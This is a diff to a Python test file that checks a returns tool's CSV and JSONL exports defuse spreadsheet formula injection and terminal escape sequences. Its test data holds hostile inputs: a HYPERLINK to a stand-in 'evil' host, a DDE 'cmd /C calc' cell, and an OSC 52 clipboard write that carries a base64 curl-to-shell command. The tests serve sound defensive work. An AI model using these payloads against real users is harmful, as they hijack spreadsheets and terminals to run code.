@@ -7,14 +7,18 @@ import csv
 import io
 import json
 import random
+import unicodedata
 
 import pendulum
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from returns_tui import export as exporting
 from returns_tui.domain import Tab
 from returns_tui.roles import BUYER
 from returns_tui.store.schema import from_micros
+from returns_tui.textsafe import safe
 from returns_tui.timefmt import iso_utc
 from tests.conftest import T0, submission
 from tests.test_services import dump
@@ -116,15 +120,132 @@ def test_csv_has_a_header_and_one_row_a_request(story):
     assert rows[1]["amount"] == "1500"
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def runs_as_formula(cell: str) -> bool:
+    """What a spreadsheet might run: after leading white space, controls and invisible format
+    characters, =, +, - or @ (or their fullwidth and small forms)."""
+    skipped = "".join(ch for ch in set(cell) if ch.isspace() or unicodedata.category(ch)[0] == "C"
+                      and unicodedata.category(ch) != "Cn")  # fmt: skip
+    rest = cell.lstrip(skipped)
+    return bool(rest) and unicodedata.normalize("NFKC", rest[0])[:1] in "=+-@"
+
+
+# Each start, and the cell's start as written: an apostrophe, or a placeholder for a
+# character that must not reach the terminal (CR, the byte order mark).
+STARTS = {
+    "=": "'=", "+": "'+", "-": "'-", "@": "'@", "\t": "'\t", "\r": "␍", " ": "' ",
+    "  \n ": "'  \n ", "\n": "'\n", "\u00a0": "'\u00a0", "\u3000": "'\u3000",
+    "\ufeff": "<U+FEFF>", "\uff1d": "'\uff1d", "\uff0b": "'\uff0b", "\uff0d": "'\uff0d",
+    "\uff20": "'\uff20", "\ufe66": "'\ufe66", "\u200d": "'\u200d",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("start", list(STARTS), ids=ascii)
 def test_csv_cells_that_a_spreadsheet_would_run_are_made_text(svc, start):
-    note = f"{start}HYPERLINK(\"http://evil\",\"click\")"
+    formula = 'HYPERLINK("http://evil","click")'
+    if start.isspace() or start in "\ufeff\u200d":  # white space before a formula character
+        formula = "=" + formula
+    note = start + formula
     svc.submit(BUYER, submission("R1", buyer=f"{start}cmd|' /C calc'!A0", note=note), T0)
 
     (row,) = csv_rows(svc, svc.login("root-admin"))
-    assert row["buyer_note"] == "'" + note
-    assert row["buyer"].startswith("'" + start)
+    assert row["buyer_note"].startswith(STARTS[start]), ascii(row["buyer_note"])
+    assert row["buyer_note"].endswith(formula)
+    assert not runs_as_formula(row["buyer_note"]) and not runs_as_formula(row["buyer"])
     assert row["id"] == "R1"  # plain cells untouched
+
+
+@pytest.mark.parametrize("text", ["  hello", "\u00a0Ana", "\n\nline", "a=b", "Zoë", "12-3"])
+def test_csv_cells_without_a_formula_are_left_alone(svc, text):
+    svc.submit(BUYER, submission("R1", note=text), T0)
+    (row,) = csv_rows(svc, svc.login("root-admin"))
+    assert row["buyer_note"] == text
+
+
+@settings(max_examples=500, deadline=None)
+@given(text=st.text())
+def test_no_csv_cell_runs_as_a_formula_or_holds_a_raw_control(text):
+    cell = exporting._cell(text)
+    assert not runs_as_formula(cell)
+    # Nothing textsafe would replace is left (line breaks and tabs stay: CSV quotes them).
+    assert safe(cell, single_line=False) == cell, ascii(cell)
+
+
+# Terminal control sequences and characters that reorder or hide text: an OSC 52 clipboard
+# write, a window title, a CSI of C1, DEL, NEL, the line and paragraph separators, bidi
+# overrides and isolates, zero-width and byte-order marks, a tag character, private use.
+HOSTILE = (
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==\x1b\\ \x1b]0;TITLE\x07 \x9b31m \x7f \x85"
+    " \u2028 \u2029 \u202a\u202b\u202c\u202d\u202e \u2066\u2067\u2068\u2069 \u200b\u200e"
+    " \u200f \u061c \ufeff \U000e0041 \ue000 \x00?"
+)
+KEPT = "Zoë\u00a0Müller\u3000田中 👩\u200d💻"  # spaces and a joined emoji are text
+
+
+def raw_unsafe(text: str) -> set[str]:
+    """The characters of `text` that must not reach a terminal raw: every one that
+    str.isprintable() refuses, but for the spaces (Zs) and the line ends given."""
+    return {ch for ch in text if not ch.isprintable() and unicodedata.category(ch) != "Zs"}
+
+
+def test_jsonl_escapes_every_control_and_format_character_and_keeps_the_data(svc):
+    note = HOSTILE.replace("\x00", "") + " " + KEPT  # NUL cannot be stored
+    svc.submit(BUYER, submission("R1", buyer=KEPT + "\u202e", product=note, note=note), T0)
+    out = io.StringIO()
+    exporting.write_jsonl(svc.export(svc.login("root-admin")), out)
+    text = out.getvalue()
+
+    assert text.count("\n") == 1 and text.endswith("\n")
+    assert raw_unsafe(text[:-1]) == set(), ascii(text)
+    assert "\\u001b]52" in text and "\\u202e" in text and "\\u2028" in text
+    assert KEPT.replace("\u200d", "\\u200d") in text  # spaces and letters stay as they are
+    (row,) = [json.loads(line) for line in text.splitlines()]
+    assert row["records"][0]["note"] == note
+
+
+def test_an_ascii_line_with_del_or_esc_is_escaped_too(svc):
+    """The writer's quick look at an ASCII line: DEL is the one character the JSON encoder
+    leaves raw there."""
+    svc.submit(BUYER, submission("R1", note="del\x7f esc\x1b[2J bel\x07"), T0)
+    out = io.StringIO()
+    exporting.write_jsonl(svc.export(svc.login("root-admin")), out)
+    text = out.getvalue()
+    assert "\x7f" not in text and "\x1b" not in text and "\x07" not in text
+    assert "del\\u007f esc\\u001b[2J bel\\u0007" in text
+    assert json.loads(text)["records"][0]["note"] == "del\x7f esc\x1b[2J bel\x07"
+
+
+@settings(max_examples=1000, deadline=None)
+@given(value=st.recursive(
+    st.none() | st.booleans() | st.integers() | st.text(),
+    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
+    max_leaves=8,
+))  # fmt: skip
+def test_the_jsonl_escape_is_the_same_json_without_a_raw_control(value):
+    text = exporting._dumps(value)
+    escaped = exporting._escaped(text) if not text.isprintable() else text
+    assert json.loads(escaped) == value
+    assert raw_unsafe(escaped) == set(), ascii(escaped)
+    if text.isprintable():
+        assert escaped == text  # nothing to escape: the line goes out as the encoder made it
+
+
+def test_csv_writes_placeholders_for_control_and_format_characters(svc):
+    svc.submit(BUYER, submission("R1", buyer="Ana\x1b]0;x\x07", note=HOSTILE.replace("\x00", "")
+                                 + "\r\nnext line\t" + KEPT), T0)  # fmt: skip
+    out = io.StringIO()
+    exporting.write_csv(svc.export(svc.login("root-admin")), out)
+    text = out.getvalue()
+
+    # The only CR is the CSV's own line end; the line break inside the note stays a line break.
+    assert text.count("\r") == text.count("\r\n") == 2
+    assert raw_unsafe(text.replace("\r\n", "").replace("\n", "").replace("\t", "")) == {
+        "\u200d"
+    }  # the zero-width joiner of the emoji, which textsafe keeps
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["buyer"] == "Ana␛]0;x␇"
+    assert row["buyer_note"].startswith("␛]52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==␛\\ ␛]0;TITLE␇")
+    assert "<U+202E>" in row["buyer_note"] and "<U+2028>" in row["buyer_note"]
+    assert row["buyer_note"].endswith("␍\nnext line\t" + KEPT)
 
 
 def test_buyers_text_survives_both_formats(svc):
